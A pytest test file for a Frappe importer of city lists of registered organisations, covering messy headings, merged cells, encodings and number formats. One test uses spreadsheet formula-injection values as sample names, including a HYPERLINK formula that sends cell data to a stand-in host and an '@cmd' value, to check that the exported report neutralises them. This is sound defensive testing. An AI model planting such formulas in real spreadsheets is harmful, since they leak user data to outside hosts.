"""Importing lists as cities have them: the values, the rows that are no organisations, and what is said about the others."""

import csv
import datetime
import io
from pathlib import Path

import frappe
import openpyxl
import pytest
from import_lists import as_csv, counts, organisation, run
from openpyxl.styles import numbers

from kyodo_frappe.common.errors import FileContentMismatch
from kyodo_frappe.common.file_types import content_of
from kyodo_frappe.organisations.import_known import ORGANISATION
from kyodo_frappe.organisations.import_list import DOCTYPE

LISTS = Path(__file__).parent / "lists"
HEAD = ["No.", "団体名", "代表者", "郵便番号", "住所", "電話番号", "会員数", "設立年月日"]
UMI = [1, "検証海の会", "海野 一", "100-0001", "検証市1", "03-1234-5678", 10, "2001-05-06"]
YAMA = [2, "検証山の会", "山野 二", "100-0002", "検証市2", "03-1234-5679", "20名", "平成13年5月6日"]


def excel(*sheets: tuple[str, list], merge: dict[str, list[str]] | None = None, formats: dict[str, str] | None = None) -> bytes:
	"""A workbook of sheets [(title, rows)]. merge: {title: ranges}; formats: {cell of the last sheet: number format}."""
	book = openpyxl.Workbook()
	book.remove(book.active)
	for title, rows in sheets:
		sheet = book.create_sheet(title)
		for row in rows:
			sheet.append(row)
		for cells in (merge or {}).get(title, ()):
			sheet.merge_cells(cells)
	for cell, number_format in (formats or {}).items():
		sheet[cell].number_format = number_format
	content = io.BytesIO()
	book.save(content)
	return content.getvalue()


def values(name: str, *fields: str) -> tuple:
	return tuple(organisation(name).get(field) for field in fields)


def added(before: set) -> set[str]:
	return names() - before


def names() -> set[str]:
	return set(frappe.get_all(ORGANISATION, pluck="organisation_name", order_by="name"))


def check_umi_and_yama(town, begin, content: bytes, filename: str, expected=(2, 0, 0, 0, 0)):
	"""Import a list of these two organisations; returns its record."""
	before = names()
	doc = run(town, begin(content, filename))
	assert counts(doc) == expected, (doc.problems, doc.unread)
	assert added(before) == {"検証海の会", "検証山の会"}
	fields = ("representative", "postal_code", "address", "phone", "member_count", "established_on")
	day = datetime.date(2001, 5, 6)
	assert values("検証海の会", *fields) == ("海野 一", "100-0001", "検証市1", "03-1234-5678", 10, day)
	assert values("検証山の会", *fields) == ("山野 二", "100-0002", "検証市2", "03-1234-5679", 20, day)
	return doc


# -- the four lists that went wrong ----------------------------------------------------------


def test_list_with_two_rows_of_headings(town, begin):
	before = names()
	name = begin((LISTS / "f02_city_list_two_row_header.xlsx").read_bytes(), "名簿.xlsx")
	checked = run(town, name, dry=True)
	assert names() == before
	assert counts(checked) == (4, 0, 0, 0, 2), checked.problems  # 内線12, 平成12年頃
	for word in ("郵便番号", "住所", "電話番号", "設立年月日", "会員数", "活動分野"):
		assert word in checked.recognised, checked.recognised
	assert checked.ignored == "No."
	assert checked.preview.splitlines()[0].startswith("7行目") and "検証の森を守る会" in checked.preview
	assert "検証⻲⼾ふれあい会" in checked.preview and "6団体" not in checked.preview
	assert [line[:5] for line in checked.unread.splitlines()] == ["14行目 ", "15行目 "] and checked.unread_count == 2
	assert "合計 6団体" in checked.unread and "※下線は新規登録団体" in checked.unread
	assert "内線12" in checked.problems and "平成12年頃" in checked.problems
	run(town, name)
	assert added(before) == {"検証の森を守る会", "検証子ども食堂", "検証⻲⼾ふれあい会", "検証葛󠄀城囃子保存会"}
	fields = ("representative", "postal_code", "address", "phone", "member_count", "established_on")
	first_april = datetime.date(2025, 4, 1)
	assert values("検証の森を守る会", *fields) == ("髙橋 一郎", "100-0001", "検証市1-1", "03(1234)5678", 30, first_april)
	assert values("検証子ども食堂", *fields) == ("﨑山 花", "100-0002", "検証市2丁目3番4号", "03-1234-5679", 120, first_april)
	assert values("検証⻲⼾ふれあい会", *fields) == ("⻑⾕川 三郎", "100-0003", "検証市⻲⼾3", "03-1234-5670", 1234, first_april)
	kept = ("渡邉󠄂 四郎", "100-0004", "検証市4", "090 1234 5671", 25, datetime.date(2001, 5, 6))
	assert values("検証葛󠄀城囃子保存会", *fields) == kept
	merged = [[row.activity_field for row in organisation(name).activity_fields] for name in ("検証の森を守る会", "検証子ども食堂")]
	assert merged == [["07"], ["07"]], "a cell merged over two rows counts for both"


def test_variants_of_one_name_are_told_as_suspected_duplicates(town, begin):
	doc = run(town, begin((LISTS / "f04_variants.csv").read_bytes()))
	assert (doc.new_count, doc.duplicate_count) == (1, 1), doc.problems
	assert "3行目 検証髙橋文庫の会：2行目の団体と同じです。" in doc.problems


def test_names_like_formulas_are_kept_and_neutral_in_the_report(town, begin):
	content = (LISTS / "f09_formula_names.csv").read_bytes()
	doc = run(town, begin(content))
	assert counts(doc) == (3, 0, 0, 0, 0), doc.problems
	link = '=HYPERLINK("http://example.invalid/?"&A2,"検証")'
	assert values(link, "representative") == ("@cmd",) and values("＝検証イコールの会", "representative") == ("-代表",)
	assert organisation("+検証プラスの会").representative == "山"
	wrong = content.decode("utf-8-sig").splitlines()
	wrong[1] += ",余り"
	doc = run(town, begin("\n".join(wrong).encode("utf-8-sig")), dry=True)
	sheet = openpyxl.load_workbook(io.BytesIO(content_of(frappe.get_doc("File", {"file_url": doc.problem_file})))).active
	assert [cell.value for cell in sheet[2]][2:4] == [f"'{link}", "'@cmd"]
	assert not [cell for row in sheet for cell in row if cell.data_type == "f"]


def test_shifted_row_is_told_and_not_imported(town, begin):
	before = names()
	doc = run(town, begin((LISTS / "f12_shifted_row_no_number.csv").read_bytes()))
	assert counts(doc) == (1, 0, 0, 0, 1) and added(before) == {"検証二行目の会"}
	assert doc.problems.startswith("2行目 検証三条：") and "検証市9" in doc.problems


# -- lists of the same kinds ------------------------------------------------------------------


def test_cover_sheet_and_further_sheets_are_named(town, begin):
	sheets = [("表紙", [["登録団体名簿"], ["令和8年4月1日"]]), ("名簿", [HEAD, UMI, YAMA]), ("集計", [["区分", "件数"], ["合計", 2]])]
	doc = check_umi_and_yama(town, begin, excel(*sheets), "名簿.xlsx")
	assert doc.unread.splitlines() == ["シート「表紙」：読み取っていません。", "シート「集計」：読み取っていません。"]


def test_two_rows_of_headings_in_a_csv_with_persons(town, begin):
	rows = [
		["検証市　登録団体一覧"],
		["", "団体", "代表者", "", "事務局", "", "", "規模", ""],
		["", "名称", "氏名", "住所", "〒", "所在地", "TEL", "会員数", "設立日"],
		["1", "検証海の会", "海野 一", "自宅1", "100-0001", "検証市1", "03-1234-5678", "10", "2001/5/6"],
		["2", "検証山の会", "山野 二", "自宅2", "100-0002", "検証市2", "03-1234-5679", "20", "H13.5.6"],
		["", "以上２団体"],
	]
	doc = check_umi_and_yama(town, begin, as_csv(rows, "cp932"), "名簿.csv")
	assert doc.ignored == "代表者 住所", "the home of a representative"
	assert "以上２団体" in doc.unread and "A列" in doc.unread


def test_totals_sections_repeated_headings_and_examples(town, begin):
	rows = [
		HEAD,
		["例", "みどりの会", "緑 花子", "248-0012", "鎌倉市", "0467-00-0000", 5, "令和元年5月1日"],
		[None, "【海】"],
		UMI,
		[None, "小計", None, None, None, None, 10],
		HEAD,
		[None, "山分野"],
		YAMA,
		["合計", "２団体", None, None, None, None, 30],
		["※会員数は概数です。"],
		[None, None, None, None, None, None, None, "令和8年4月1日現在"],
	]
	doc = check_umi_and_yama(town, begin, excel(("名簿", rows)), "名簿.xlsx")
	assert doc.unread_count == 8 and [line.split("行目")[0] for line in doc.unread.splitlines()] == [
		"2",
		"3",
		"5",
		"6",
		"7",
		"9",
		"10",
		"11",
	]
	book = openpyxl.load_workbook(io.BytesIO(content_of(frappe.get_doc("File", {"file_url": doc.problem_file}))))
	assert [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)] == [2, 3, 5, 6, 7, 9, 10, 11]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf_16_with_tabs(town, begin, encoding):
	text = io.StringIO()
	csv.writer(text, delimiter="\t").writerows([HEAD, UMI, [*YAMA[:4], "検証市2, 1, 2, 3; 4", *YAMA[5:]]])
	before = names()
	doc = run(town, begin(text.getvalue().encode(encoding), "名簿.txt"))
	assert counts(doc) == (2, 0, 0, 0, 0), doc.problems
	assert added(before) == {"検証海の会", "検証山の会"} and organisation("検証山の会").address == "検証市2, 1, 2, 3; 4"


def test_text_that_a_spreadsheet_was_told_to_keep(town, begin):
	head = ",".join(HEAD)
	lines = [
		head,
		'="1",検証海の会,海野 一,="1000001",検証市1,="0312345678",10,2001-05-06',
		'2,"=""検証山の会""",山野 二,="1000002",検証市2,"=""0312345679""",="20",20010506',
	]
	before = names()
	doc = run(town, begin("\r\n".join(lines).encode("cp932")))
	assert counts(doc) == (2, 0, 0, 0, 0) and added(before) == {"検証海の会", "検証山の会"}, doc.problems
	assert values("検証海の会", "postal_code", "phone") == ("100-0001", "0312345678")
	assert values("検証山の会", "phone", "member_count") == ("0312345679", 20)


def test_formulas_of_excel_without_values(town, begin):
	rows = [HEAD, [1, "検証海の会", "海野 一", '="1000001"', "検証市1", "03-1234-5678", "=5+5", UMI[7]], YAMA]
	doc = run(town, begin(excel(("名簿", rows)), "名簿.xlsx"), dry=True)
	assert counts(doc) == (1, 0, 0, 0, 1) and "会員数：「#CALC!」" in doc.problems, doc.problems
	assert "郵便番号" not in doc.problems


def test_exponents_are_refused_and_numbers_shown_as_exponents_are_read(town, begin):
	rows = [
		["団体名", "法人番号", "電話番号", "会員数"],
		["検証海の会", "7.12346E+12", "", ""],
		["検証山の会", "", "3.12E+09", ""],
		["検証川の会", "", "", "1.0E+12"],
	]
	before = names()
	doc = run(town, begin(as_csv(rows)))
	assert counts(doc) == (0, 0, 0, 0, 3) and not added(before)
	for number, word in ((2, "法人番号：「7.12346E+12」"), (3, "電話番号：「3.12E+09」"), (4, "会員数：「1.0E+12」")):
		assert f"{number}行目" in doc.problems and word in doc.problems, doc.problems
	rows = [["団体名", "法人番号"], ["検証海の会", 7123456789012]]
	content = excel(("名簿", rows), formats={"B2": numbers.BUILTIN_FORMATS[11]})  # shown as 7.12E+12
	assert run(town, begin(content, "名簿.xlsx")).new_count == 1
	assert organisation("検証海の会").corporate_number == "7123456789012"


def test_merged_cells_of_the_rows(town, begin):
	head = ["地区", *HEAD[1:]]
	rows = [["名簿"], head, ["東", *UMI[1:]], [None, *YAMA[1:5], None, *YAMA[6:]], [None, None, "副 三"]]
	rows[3][6] = None
	content = excel(("名簿", rows), merge={"名簿": ["A1:H1", "A3:A4", "F3:F4", "G3:G4", "B4:B5"]})
	before = names()
	doc = run(town, begin(content, "名簿.xlsx"))
	assert added(before) == {"検証海の会", "検証山の会"}
	assert values("検証山の会", "phone", "member_count") == ("03-1234-5678", 10), "one phone and one number for both"
	assert counts(doc) == (2, 0, 0, 0, 1), "one name is one organisation"
	assert doc.problems.startswith("5行目 副 三：団体名")


def test_ditto_marks_and_cells_in_the_wrong_column(town, begin):
	rows = [
		["団体名", "代表者", "住所", "電話番号"],
		["検証海の会", "海野 一", "検証市1", "03-1234-5678"],
		["検証山の会", "〃", "同上", "03-1234-5679"],
		["検証川の会", "検証市3", "03-1234-5670", ""],
		["検証市4", "", "", "03-1234-5671", "余り"],
		["03-1234-5672", "池", "検証市5", ""],
	]
	before = names()
	doc = run(town, begin(as_csv(rows)))
	assert counts(doc) == (1, 0, 0, 0, 4) and added(before) == {"検証海の会"}
	lines = doc.problems.splitlines()
	assert "代表者氏名：「〃」" in lines[0] and "所在地：「同上」" in lines[0]
	assert "所在地：「03-1234-5670」" in lines[1] and "「余り」" in lines[2] and "団体名：「03-1234-5672」" in lines[3]


def test_list_without_names_is_refused_with_a_sentence(town, begin):
	content = excel(("表紙", [["名簿"]]), ("名簿", [["番号", "住所"], [1, "鎌倉"]]))
	doc = run(town, begin(content, "名簿.xlsx"), dry=True)
	assert doc.status == "Broken Off" and "団体名" in doc.message
	with pytest.raises(FileContentMismatch, match="名簿.csv"):
		begin("団体名,住所\n検証の会".encode("utf-16") + b"\x00", "名簿.csv")


def test_fields_of_the_check_are_shown_in_the_form():
	meta = frappe.get_meta(DOCTYPE)
	for field in ("preview", "unread", "unread_count"):
		assert meta.get_field(field).read_only and not meta.get_field(field).hidden
